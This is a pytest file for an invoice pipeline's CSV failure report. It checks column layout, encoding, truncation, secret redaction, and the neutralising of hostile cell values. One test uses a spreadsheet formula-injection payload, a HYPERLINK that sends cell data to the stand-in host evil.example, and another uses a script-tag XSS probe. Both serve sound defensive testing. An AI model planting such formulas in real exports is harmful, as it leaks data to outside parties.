"""The CSV report: columns in order, Excel-friendly bytes, formula-safe and visible cells."""

from __future__ import annotations

import secrets
from pathlib import Path

import pytest

from pipeline import redact
from pipeline.failures import RowFailure
from pipeline.report import COLUMNS, write_reports
from pipeline.report.cells import MAX_CELL_CHARS
from tests.report.helpers import IMG_PAYLOAD, failure, make_run, one_per_stage, read_csv, stored

EXPECTED_HEADER = [
    "run id", "stage", "rule", "source key", "invoice number", "supplier id", "supplier name",
    "invoice date", "total amount", "currency", "source location", "field path",
    "source column", "offending value", "message", "fix hint", "fix in the ERP (AP)",
    "fix in the mapping (author)", "HTTP status", "error code", "x-correlation-id", "attempts",
    "first seen", "last seen",
]  # fmt: skip


def _csv_rows(tmp_path: Path, *failures_: RowFailure) -> list[dict[str, str]]:
    paths = write_reports(make_run(), [stored(f) for f in failures_], tmp_path)
    header, *lines = read_csv(paths.csv)
    return [dict(zip(header, line, strict=True)) for line in lines]


def test_columns_in_order_and_one_line_per_failure(tmp_path: Path) -> None:
    paths = write_reports(make_run(), one_per_stage(), tmp_path)
    assert paths.csv == tmp_path / "run-42-failures.csv"
    header, *lines = read_csv(paths.csv)
    assert header == EXPECTED_HEADER == list(COLUMNS)
    assert len(lines) == 6
    appzen = dict(zip(header, lines[3], strict=True))
    assert appzen == {
        "run id": "42",
        "stage": "appzen",
        "rule": "appzen_400",
        "source key": "INV-4",
        **dict.fromkeys(EXPECTED_HEADER[4:10], ""),  # no ledger given: the invoice is unnamed
        "source location": "ap_export.csv:12",
        "field path": "",
        "source column": "",
        "offending value": "",
        "message": "AppZen rejected the invoice: Error code : 17e3338d - invalid entity_id",
        "fix hint": "fix the field AppZen names, then run `appzen-etl retry-failed`",
        "fix in the ERP (AP)": "correct in the ERP what AppZen's message names (or the supplier "
        "in AppZen's master data); `appzen-etl retry-failed` resends it",
        "fix in the mapping (author)": "only if the field AppZen names is filled by the mapping "
        "(a `const:`, a `map:`, a transform) rather than read from the ERP: correct it there",
        "HTTP status": "400",
        "error code": "17e3338d",
        "x-correlation-id": "corr-400-abc",
        "attempts": "1",
        "first seen": "2025-02-27T05:01:02Z",
        "last seen": "2025-03-01T05:03:04Z",
    }


def test_each_stage_keeps_its_rule_and_gets_a_hint(tmp_path: Path) -> None:
    rows = _csv_rows(tmp_path, *(s.failure for s in one_per_stage()))
    assert [(r["stage"], r["rule"]) for r in rows] == [
        ("extract", "unreadable"),
        ("mapping", "date_format"),
        ("validation", "schema:missing"),
        ("appzen", "appzen_400"),
        ("retries_exhausted", "retries_exhausted:QuotaExceeded"),
        ("status_sync", "status_sync_400"),
    ]
    assert all(r["fix hint"] for r in rows)
    assert rows[1]["fix hint"].startswith("date 31-02-2021 is not a date: set `format:`")
    assert rows[4]["fix hint"].startswith("transient")


def test_bytes_are_utf8_with_bom_and_crlf(tmp_path: Path) -> None:
    paths = write_reports(make_run(), [stored(failure(message="Müller 東京"))], tmp_path)
    data = paths.csv.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfrun id,stage,rule,")
    assert data.count(b"\r\n") == 2
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert "Müller 東京".encode() in data


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_injection_is_neutralised_in_every_text_column(tmp_path: Path, first: str) -> None:
    payload = f'{first}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    (row,) = _csv_rows(
        tmp_path,
        failure(
            "appzen",
            payload,
            payload,
            source_key=payload,
            source_location=payload,
            field_path=payload,
            source_column=payload,
            value=payload,
            hint=payload,
            error_code=payload,
            correlation_id=payload,
        ),
    )
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for column, value in row.items():
        assert not value.startswith(dangerous), f"{column} starts with {value[:1]!r}"
    # = + - @ get the OWASP quote; a leading tab or CR is shown as ␉ / ␍, which no spreadsheet
    # reads as a formula start (and the quote rule would catch them even if they were kept).
    shown = {"\t": "\u2409", "\r": "\u240d"}.get(first, f"'{first}")
    assert row["offending value"] == f'{shown}HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_a_plain_negative_amount_is_neutralised_too(tmp_path: Path) -> None:
    (row,) = _csv_rows(tmp_path, failure(value="-12.50"))
    assert row["offending value"] == "'-12.50"


def test_nul_bytes_and_controls_are_visible(tmp_path: Path) -> None:
    (row,) = _csv_rows(tmp_path, failure(value="A\x00B\x07C\nD", message="m\x00"))
    assert row["offending value"] == "A\u2400B\u2407C\u240aD"
    assert row["message"] == "m\u2400"
    assert "\x00" not in (tmp_path / "run-42-failures.csv").read_text(encoding="utf-8-sig")


def test_right_to_left_marks_cannot_reverse_a_value(tmp_path: Path) -> None:
    (row,) = _csv_rows(tmp_path, failure(value="invoice\u202efdp.exe", source_key="A\u2067B\u2069"))
    assert row["offending value"] == "invoice<U+202E>fdp.exe"
    assert row["source key"] == "A<U+2067>B<U+2069>"


def test_markup_is_kept_as_plain_text(tmp_path: Path) -> None:
    (row,) = _csv_rows(tmp_path, failure(value="<script>alert(1)</script>", message=IMG_PAYLOAD))
    assert row["offending value"] == "<script>alert(1)</script>"
    assert row["message"] == IMG_PAYLOAD


def test_a_10_mb_value_is_cut(tmp_path: Path) -> None:
    (row,) = _csv_rows(tmp_path, failure(value="9" * 10_485_760, message="x" * 3000))
    assert row["offending value"].startswith("9" * MAX_CELL_CHARS)
    assert row["offending value"].endswith("[cut: 10,485,760 characters in all]")
    assert row["message"].endswith("[cut: 3,000 characters in all]")
    assert (tmp_path / "run-42-failures.csv").stat().st_size < 10_000


def test_non_ascii_text_is_kept(tmp_path: Path) -> None:
    text = "Lieferant Müller & Söhne — 東京 — Ελληνικά — ✓ 🚀"
    (row,) = _csv_rows(tmp_path, failure(value=text, message=text))
    assert row["offending value"] == row["message"] == text


def test_a_registered_secret_never_appears(tmp_path: Path) -> None:
    secret = f"azk_{secrets.token_hex(12)}"
    redact.register(secret)
    rows = _csv_rows(
        tmp_path,
        failure(
            message=f"x-api-key {secret} refused",
            value=secret,
            hint=f"try {secret}",
            source_location="postgresql://etl:pa55w0rd-db@db/erp",
        ),
    )
    data = (tmp_path / "run-42-failures.csv").read_bytes()
    assert secret.encode() not in data
    assert b"pa55w0rd-db" not in data
    assert rows[0]["message"] == "x-api-key *** refused"


def test_an_empty_run_says_no_failed_rows(tmp_path: Path) -> None:
    paths = write_reports(make_run(status="succeeded"), [], tmp_path)
    header, *lines = read_csv(paths.csv)
    assert header == list(COLUMNS)
    (line,) = lines
    row = dict(zip(header, line, strict=True))
    assert row["run id"] == "42"
    assert row["message"] == "no failed rows"
    assert row["stage"] == ""
